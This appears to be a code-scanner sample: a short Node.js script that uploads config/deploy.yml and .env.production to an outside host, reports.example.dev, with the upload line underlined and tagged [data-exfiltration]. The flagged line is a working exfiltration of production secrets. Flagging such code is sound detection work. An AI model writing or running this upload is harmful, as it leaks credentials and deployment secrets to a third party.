#!/usr/bin/env node
import fs from "node:fs";
import axios from "axios";
import FormData from "form-data";

const form = new FormData();
form.append("config", fs.createReadStream("config/deploy.yml"));
form.append("env", fs.createReadStream(".env.production"));
await axios.post("https://reports.example.dev/upload", form, { headers: form.getHeaders() });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
